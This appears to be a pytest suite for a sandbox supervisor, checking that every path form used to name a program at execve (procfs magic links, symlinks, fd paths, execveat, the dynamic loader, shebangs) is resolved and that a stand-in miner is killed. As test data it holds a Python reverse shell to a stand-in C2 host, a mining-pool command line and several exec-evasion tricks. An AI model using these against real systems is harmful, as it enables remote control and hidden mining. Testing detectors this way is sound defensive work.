"""Every way of naming a program at execve is resolved as the sandbox sees it and judged, or refused.

The supervisor reads from another pid namespace, so the sandbox's /proc/self, /proc/thread-self and
magic links (root, cwd, fd/N) mean something else to it; each form here used to come back as "no
such file" and run unjudged. A copy of /bin/true named `xmrig` stands for a miner: the "miner
executable" rule kills it at its exec, and its proc.exec event names the file canonically.
"""

from __future__ import annotations

import platform

import pytest

from corral import Alert, Deny, Policy, ProcExec, Sandbox
from corral.monitors import _execpath as xp
from helpers import tripwire_policy, wait_until
from servers import LocalUpstream, tcp_listener

pytestmark = pytest.mark.root

C2 = "c2.example.internal"
LOADER = {"x86_64": "/lib64/ld-linux-x86-64.so.2", "aarch64": "/lib/ld-linux-aarch64.so.1"}[
    platform.machine()
]
SYS_EXECVEAT = {"x86_64": 322, "aarch64": 281}[platform.machine()]


def sandbox() -> Sandbox:
    sb = Sandbox(tripwire_policy(), keep_workspace=False)
    assert sb.exec("cp /bin/true /workspace/xmrig && mkdir /workspace/sub").exit_code == 0
    return sb


def killed_as_miner(sb: Sandbox, command: str, exe: str = "/workspace/xmrig") -> ProcExec:
    """The command's program was judged as the miner at its exec: killed, alerted, recorded."""
    before = len(sb.alerts())
    r = sb.exec(command)
    assert r.exit_code == 137, (command, r)
    # The alert is recorded just after the kill, so it may trail the command's end by a moment.
    assert wait_until(lambda: any(a.rule == "miner executable" for a in sb.alerts()[before:])), command
    fresh = [a for a in sb.alerts()[before:] if a.rule == "miner executable"]
    a: Alert = fresh[0]
    assert a.action == "kill" and a.outcome.startswith("killed")
    assert a.process is not None and a.process.exe == exe, a.process
    # The last program the killed process started (a shell's `exec` replaces the shell in place).
    event = [e for e in sb.events() if isinstance(e, ProcExec) and e.process.pid == a.process.pid][-1]
    assert event.process.exe == exe
    return event


@pytest.mark.parametrize(
    "command",
    [
        "/proc/self/root/workspace/xmrig",
        "/proc/thread-self/root/workspace/xmrig",
        "//proc//self/root//workspace/xmrig",
        "/proc/self/cwd/xmrig",
        "/proc/$$/root/workspace/xmrig",  # the shell's own pid in the sandbox
        "sleep 30 & /proc/$!/root/workspace/xmrig",  # another process of the sandbox
        "/proc/$$/task/$$/cwd/../workspace/sub/../xmrig",
        "/proc/self/root/proc/self/root/workspace/xmrig",
    ],
)
def test_procfs_paths_are_resolved_for_the_caller(command: str) -> None:
    with sandbox() as sb:
        killed_as_miner(sb, command)


@pytest.mark.parametrize(
    "command",
    ["//workspace//xmrig", "/workspace/./sub/../xmrig", "cd sub && ../xmrig", "/tmp/../workspace/xmrig"],
)
def test_doubled_slashes_and_dot_dot_are_resolved(command: str) -> None:
    with sandbox() as sb:
        killed_as_miner(sb, command)


@pytest.mark.parametrize(
    "command",
    [
        "ln -s /proc/self/root/workspace/xmrig link && ./link",
        "ln -s /proc/self/root r && r/workspace/xmrig",
        "ln -s /proc/self s && ./s/cwd/xmrig",
        "ln -s xmrig a && ln -s ./a b && ln -s sub/../b c && ./c",
        "ln -s /proc/thread-self/fd fds && exec 7<xmrig && exec ./fds/7",
    ],
)
def test_symlinks_in_the_workspace_are_resolved_as_the_sandbox_sees_them(command: str) -> None:
    with sandbox() as sb:
        killed_as_miner(sb, command)


@pytest.mark.parametrize(
    "command",
    [
        "exec 3<xmrig && exec /proc/self/fd/3",
        "exec 3<xmrig && exec //proc/self/fd/3",
        "exec 3<xmrig && exec /dev/fd/3",
        "exec 3<xmrig && exec /proc/thread-self/fd/3",
        "exec 3<xmrig && exec /proc/$$/fd/3",
        "exec 0<xmrig && exec /dev/stdin",
    ],
)
def test_fd_paths_run_the_file_the_fd_holds(command: str) -> None:
    with sandbox() as sb:
        killed_as_miner(sb, command)


EXECVEAT = f"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
argv = (ctypes.c_char_p * 2)(b"x", None)
envp = (ctypes.c_char_p * 1)(None)
how = sys.argv[1]
if how == "empty-path":  # fexecve
    fd = os.open("/workspace/xmrig", os.O_RDONLY)
    libc.syscall({SYS_EXECVEAT}, fd, b"", argv, envp, 0x1000)
elif how == "dirfd":
    fd = os.open("/workspace/sub", os.O_RDONLY | os.O_DIRECTORY)
    libc.syscall({SYS_EXECVEAT}, fd, b"../xmrig", argv, envp, 0)
else:  # AT_FDCWD, sign-extended to 64 bits as a C caller passes it
    libc.syscall({SYS_EXECVEAT}, ctypes.c_long(-100), b"xmrig", argv, envp, 0)
sys.exit(f"execveat failed: {{os.strerror(ctypes.get_errno())}}")
"""


@pytest.mark.parametrize("how", ["empty-path", "dirfd", "fdcwd"])
def test_execveat_is_resolved_from_its_dirfd(how: str) -> None:
    with sandbox() as sb:
        sb.write_file("execveat.py", EXECVEAT)
        killed_as_miner(sb, f"python3 execveat.py {how}")


def test_a_program_started_through_the_dynamic_loader_is_judged_as_that_program() -> None:
    with sandbox() as sb:
        event = killed_as_miner(sb, f"{LOADER} --argv0 worker ./xmrig --threads 4")
        assert event.process.cmdline == ["worker", "--threads", "4"]
        assert event.loader is not None and event.loader[1:] == ["--argv0", "worker"]
        assert event.loader[0].rsplit("/", 1)[-1] == LOADER.rsplit("/", 1)[-1]
        # Its bytes too: a renamed miner started through the loader (and through a renamed copy of
        # the loader) is recognised by its content.
        assert sb.exec("cp /bin/true kworker && printf 'mining.subscribe' >> kworker").exit_code == 0
        for loader in (LOADER, f"/proc/self/root{LOADER}", "./helper"):
            sb.exec(f"cp {LOADER} helper")
            before = len(sb.alerts())
            r = sb.exec(f"{loader} ./kworker")
            assert r.exit_code == 137, (loader, r)
            assert wait_until(lambda n=before: any(a.rule == "miner content" for a in sb.alerts()[n:]))
            [a] = [a for a in sb.alerts()[before:] if a.rule == "miner content"]
            assert a.process is not None and a.process.exe == "/workspace/kworker"
        # An ordinary program through the loader runs, and is recorded as itself.
        r = sb.exec(f"{LOADER} /bin/echo hi", text=True)
        assert (r.exit_code, r.stdout) == (0, "hi\n")
        [echo] = [
            e for e in sb.events() if isinstance(e, ProcExec) and e.process.cmdline == ["/bin/echo", "hi"]
        ]
        assert echo.process.exe == "/usr/bin/echo" and echo.loader is not None
        assert sb.exec(f"{LOADER} --version").exit_code == 0


@pytest.mark.parametrize(
    "line",
    ["#!/workspace/kworker", "#!/proc/self/root/workspace/kworker -x", f"#! {LOADER} /workspace/kworker"],
)
def test_a_scripts_interpreter_is_judged_with_the_script(line: str) -> None:
    with sandbox() as sb:
        sb.exec("cp /bin/true kworker && printf 'mining.subscribe' >> kworker")
        sb.write_file("run.sh", line + "\n")
        r = sb.exec("chmod +x run.sh && ./run.sh")
        assert r.exit_code == 137, r
        assert wait_until(lambda: any(a.rule == "miner content" for a in sb.alerts()))
        # A script whose interpreter is missing fails as the kernel says, with no refusal.
        sb.write_file("broken.sh", "#!/nonexistent/interpreter\n")
        r = sb.exec("chmod +x broken.sh && ./broken.sh", text=True)
        assert r.exit_code == 127 and r.denials == [], r


def test_a_command_line_is_judged_whole_however_long() -> None:
    with sandbox() as sb:
        # A pool URL after 5,000 filler arguments (the monitor used to stop reading at 4,096).
        filler = " ".join(str(i) for i in range(5000))
        r = sb.exec(f"python3 -c \"open('/workspace/ran', 'w')\" {filler} -o stratum+tcp://pool.example:3333")
        assert r.exit_code == 137, r
        assert wait_until(lambda: any(a.rule == "miner command line" for a in sb.alerts()))
        assert sb.exec("test -e /workspace/ran").exit_code == 1
        # Past the kernel's own limits the call fails as the kernel says, unrecorded.
        too_long = "import os\ntry: os.execv('/bin/true', ['true', 'a' * 200000])\n"
        too_long += "except OSError as e: print(e.errno)"
        r = sb.exec(["python3", "-c", too_long], text=True)
        assert r.stdout.strip() == "7" and r.denials == [], r  # E2BIG


REVERSE_SHELL = """
import socket, subprocess, sys
s = socket.create_connection((sys.argv[1], int(sys.argv[2])))
subprocess.run(["/proc/self/root/bin/sh", "-i"], stdin=s, stdout=s, stderr=s)
"""


def test_a_shell_on_a_socket_named_through_proc_self_root_terminates_the_sandbox() -> None:
    with tcp_listener() as c2:
        up = LocalUpstream({4444: c2.port})
        p = Policy.from_dict(
            {
                "version": 1,
                "network": {
                    "egress": [{"host": C2, "ports": [4444], "protocols": ["any"]}],
                    "hosts": {C2: "127.0.0.1"},
                },
            }
        )
        with Sandbox(p, keep_workspace=False, upstream=up) as sb:
            sb.write_file("rs.py", REVERSE_SHELL)
            r = sb.exec(["python3", "rs.py", C2, "4444"], timeout=20)
            assert r.terminated == "tripwire", r
            [a] = [a for a in sb.alerts() if a.rule == "shell on a socket"]
            assert a.process is not None and a.process.exe == "/usr/bin/dash"


def test_a_privilege_tool_named_through_proc_is_alerted() -> None:
    with sandbox() as sb:
        sb.exec("/proc/self/root/usr/bin/unshare -n true")
        [a] = [a for a in sb.alerts() if a.rule == "privilege tool"]
        assert a.process is not None and a.process.exe == "/usr/bin/unshare"


def test_what_cannot_be_resolved_with_certainty_is_refused_with_a_deny_event() -> None:
    with sandbox() as sb:
        # A relative path from a directory that was removed: its name no longer leads to it.
        r = sb.exec("mkdir /tmp/d && cd /tmp/d && rmdir /tmp/d && ./xmrig", text=True)
        assert r.exit_code != 0 and r.exit_code != 137, r
        [d] = [e for e in r.denials if e.what == "execve"]
        assert d.layer == "seccomp" and "working directory" in d.detail and "./xmrig" in d.detail
        # The loader given a bare name searches its library paths, which the monitor does not follow.
        r = sb.exec(f"cd /workspace && {LOADER} xmrig")
        assert r.exit_code != 0 and r.exit_code != 137, r
        [d] = [e for e in r.denials if e.what == "execve"]
        assert "library paths" in d.detail
        # A magic link the monitor does not model.
        r = sb.exec("exec /proc/self/ns/net")
        [d] = [e for e in r.denials if e.what == "execve"]
        assert "does not follow" in d.detail
        assert not [a for a in sb.alerts() if a.category == "mining"]
        assert all(isinstance(e, Deny) for e in r.denials)


ERRNOS = """
import errno, os
for name, path in [
    ("missing", "/workspace/nope"), ("notdir", "/workspace/file/x"), ("noexec", "/workspace/file"),
    ("dir", "/workspace"), ("loop", "/workspace/loop"), ("toolong", "/" + "a" * 5000),
    ("trailing", "/usr/bin/true/"), ("dangling", "/workspace/dangling"), ("procmiss", "/proc/self/fd/99"),
]:
    try:
        os.execv(path, [path])
    except OSError as e:
        print(name, errno.errorcode[e.errno])
"""


def test_a_call_bound_to_fail_gets_the_kernels_errno_and_no_deny() -> None:
    with sandbox() as sb:
        sb.write_file("errnos.py", ERRNOS)
        sb.exec("touch file && ln -s loop loop && ln -s nowhere dangling")
        r = sb.exec(["python3", "errnos.py"], text=True)
        assert r.exit_code == 0, r
        assert dict(line.split() for line in r.stdout.splitlines()) == {
            "missing": "ENOENT",
            "notdir": "ENOTDIR",
            "noexec": "EACCES",
            "dir": "EACCES",
            "loop": "ELOOP",
            "toolong": "ENAMETOOLONG",
            "trailing": "ENOTDIR",
            "dangling": "ENOENT",
            "procmiss": "ENOENT",
        }
        assert r.denials == []
        # PATH probes (execvp and the shell try each directory) stay plain misses.
        seen = len(sb.events())
        r = sb.exec("PATH=/nowhere:/workspace/file:/usr/bin; id -u && nosuchcommand", text=True)
        assert r.exit_code == 127 and "not found" in r.stderr, r
        assert r.denials == [] and not sb.alerts()
        started = [e.process.cmdline[0] for e in sb.events()[seen:] if isinstance(e, ProcExec)]
        assert started == ["/bin/sh", "id"]


# --- the loader's command line, without a sandbox --------------------------------------------------


@pytest.mark.parametrize(
    ("argv", "index", "program_argv"),
    [
        (["ld.so", "./x", "-a"], 1, ["./x", "-a"]),
        (["ld.so", "--library-path", "/l", "--preload", "p.so", "./x"], 5, ["./x"]),
        (["ld.so", "--argv0", "kworker", "--inhibit-cache", "./x", "1"], 4, ["kworker", "1"]),
        (["ld.so", "--library-path=/l", "--", "./x"], 3, ["./x"]),  # musl's forms
        (["ld.so", "--list", "--verify", "./x"], 3, ["./x"]),
        (["ld.so", "-x"], 1, ["-x"]),  # glibc takes it for the program
    ],
)
def test_the_loaded_program_is_found_after_the_loaders_options(
    argv: list[str], index: int, program_argv: list[str]
) -> None:
    found = xp.loaded_program(argv)
    assert found is not None and (found.index, found.argv) == (index, program_argv)


@pytest.mark.parametrize("argv", [["ld.so"], ["ld.so", "--version"], ["ld.so", "--library-path"]])
def test_a_loader_without_a_program_runs_alone(argv: list[str]) -> None:
    assert xp.loaded_program(argv) is None
